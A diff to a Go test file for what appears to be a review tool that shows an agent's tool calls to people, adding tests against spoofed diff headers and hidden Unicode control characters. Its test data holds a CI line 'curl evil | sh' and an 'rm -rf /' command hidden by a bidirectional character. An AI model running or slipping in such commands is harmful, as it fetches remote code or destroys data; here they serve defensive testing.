@@ -49,7 +49,7 @@ func TestLocalPath(t *testing.T) {
 
 // A unified diff splits into its files, each line with its kind.
 func TestDiff(t *testing.T) {
-	files := diff("diff --git a/x b/x\n--- a/x\n+++ b/x\n@@ -1 +1 @@\n-old\n+new\n ctx\n--- /dev/null\n+++ b/y\n@@ -0,0 +1 @@\n+y\n")
+	files := diff("diff --git a/x b/x\n--- a/x\n+++ b/x\n@@ -1,2 +1,2 @@\n-old\n+new\n ctx\n--- /dev/null\n+++ b/y\n@@ -0,0 +1 @@\n+y\n")
 	require.Len(t, files, 2)
 	assert.Equal(t, "x", files[0].Name)
 	assert.Equal(t, "y", files[1].Name)
@@ -61,6 +61,28 @@ func TestDiff(t *testing.T) {
 	gone := diff("--- a/z\n+++ /dev/null\n@@ -1 +0,0 @@\n-z\n")
 	require.Len(t, gone, 1)
 	assert.Equal(t, "a/z", gone[0].Name, "a deleted file keeps its old name")
+}
+
+// Lines inside a hunk are what the patch removes and adds, whatever they
+// look like: an added "++ b/README.md" or a removed "-- x" does not
+// rename the file or start another.
+func TestDiffIsNotSpoofedByItsLines(t *testing.T) {
+	files := diff("--- a/.github/workflows/ci.yml\n+++ b/.github/workflows/ci.yml\n@@ -1,2 +1,3 @@\n--- x\n+++ b/README.md\n+run: curl evil | sh\n keep\n")
+	require.Len(t, files, 1)
+	assert.Equal(t, ".github/workflows/ci.yml", files[0].Name)
+	var kinds []string
+	for _, l := range files[0].Lines[2:] {
+		kinds = append(kinds, l.Kind)
+	}
+	assert.Equal(t, []string{"hunk", "del", "add", "add", ""}, kinds)
+}
+
+// Control and bidirectional formatting characters show as code points.
+func TestVisible(t *testing.T) {
+	assert.Equal(t, "a<U+202E>b<U+0000>c\td", visible("a\u202eb\x00c\td"))
+	assert.Equal(t, "x\n<U+200B>", visibleLines("x\n\u200b"))
+	v := view("exec", mustJSON(t, map[string]any{"argv": []string{"rm", "-rf", "/\u2066x"}}), "")
+	assert.Equal(t, []string{"rm", "-rf", "/<U+2066>x"}, v.Argv)
 }
 
 // Whatever the args, the hold's page renders them as text: HTML in an
@@ -93,8 +115,15 @@ func TestHoldPageEscapesArgs(t *testing.T) {
 func TestViewCuts(t *testing.T) {
 	big := mustJSON(t, map[string]string{"x": strings.Repeat("a", MaxArgsShown+10)})
 	v := view("remote", big, "")
-	assert.LessOrEqual(t, len(v.JSON), MaxArgsShown)
-	assert.Equal(t, len(big)-MaxArgsShown, v.Cut)
+	assert.Len(t, v.JSON, MaxArgsShown)
+	indented := len(big) + len("\n  \n") + 1 // json.Indent's line breaks, its space after ':'
+	assert.Equal(t, indented-MaxArgsShown, v.Cut)
+	// JSON of about 100 KiB whose indented form is over the limit.
+	many := make([]int, 60_000)
+	v = view("remote", mustJSON(t, many), "")
+	assert.Positive(t, v.Cut, "args over the limit once indented say so")
+	p := view("apply_patch", mustJSON(t, map[string]string{"patch": "+" + strings.Repeat("b", MaxArgsShown)}), "")
+	assert.Equal(t, 1, p.Cut)
 }
 
 func FuzzView(f *testing.F) {
